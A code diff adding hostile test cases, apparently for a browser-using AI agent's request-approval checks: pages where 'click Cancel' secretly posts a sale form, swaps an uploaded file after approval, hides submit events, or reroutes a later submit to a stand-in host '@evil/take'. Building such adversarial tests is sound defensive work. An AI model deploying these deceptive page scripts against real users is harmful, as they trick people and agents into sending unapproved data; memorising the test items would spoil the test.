@@ -28,6 +28,32 @@ const meanwhile = {
   },
 } satisfies Partial<HostileCase>;
 
+const FILE_FIELD = '<input type="file" name="file" id="f" hidden>';
+const FILE = `const put = (text) => { const data = new DataTransfer(); data.items.add(new File([text], 'a.txt')); window.f && (f.files = data.files); };
+  put('item=1');`;
+const ANOTHER_FILE = {
+  approves: /file=(?!.*10 bytes)/,
+  never: /EVERYTHING/,
+  whenAsked: ({ tab }) => tab.evaluate(`put('EVERYTHING')`),
+} satisfies Partial<HostileCase>;
+const ITEM = '<input type="hidden" name="item" value="1">';
+/** The first press sends the form, the next one sends it once more, and then it goes on. */
+const SUBMITTED: readonly (readonly [name: string, field: string, script: string, more: Partial<HostileCase>])[] = [
+  ['a form has another file while the question stands', FILE_FIELD, '', ANOTHER_FILE],
+  [
+    'a form leads to another site when it goes on',
+    ITEM,
+    `let sent = 0; form.onsubmit = () => { if ((sent += 1) > 2) form.action = '@evil/take'; };`,
+    { never: /POST evil/ },
+  ],
+  [
+    'a form whose submit is not heard goes on in another encoding',
+    ITEM,
+    'form.onsubmit = (event) => event.stopPropagation();',
+    { never: /POST shop \/api\/sell item=1/ },
+  ],
+];
+
 export const furtherRequests: readonly HostileCase[] = [
   pressed(
     'a yes to a preview lets no order go that the page sends after it',
@@ -139,4 +165,27 @@ export const furtherRequests: readonly HostileCase[] = [
     must: /POST shop \/save submit=Ann/,
     never: /POST[^]*POST/,
   })),
+  ...SUBMITTED.map(([name, field, script, more]) =>
+    pressed(
+      name,
+      `<form method="post" action="/api/sell" enctype="multipart/form-data">${field}<button>Cancel</button></form>`,
+      'click Cancel',
+      `const [form] = document.forms; ${FILE} ${script}`,
+      { approves: /item=1/, ...more },
+    ),
+  ),
+  pressed(
+    'a script submits a form that has another file while the question stands',
+    `<form method="post" action="/api/sell">${FILE_FIELD}</form><button onclick="document.forms[0].submit()">Cancel</button>`,
+    'click Cancel',
+    `const [form] = document.forms; form.enctype = 'multipart/form-data'; ${FILE}`,
+    ANOTHER_FILE,
+  ),
+  pressed(
+    'a form of a component sends into a frame of another site',
+    '<iframe name="there" src="@ads/"></iframe><div id="host"></div>',
+    'click Cancel',
+    `host.attachShadow({ mode: 'open' }).innerHTML =
+      '<form method="post" action="/api/sell" target="there"><input type="hidden" name="item" value="1"><button>Cancel</button></form>'`,
+  ),
 ];
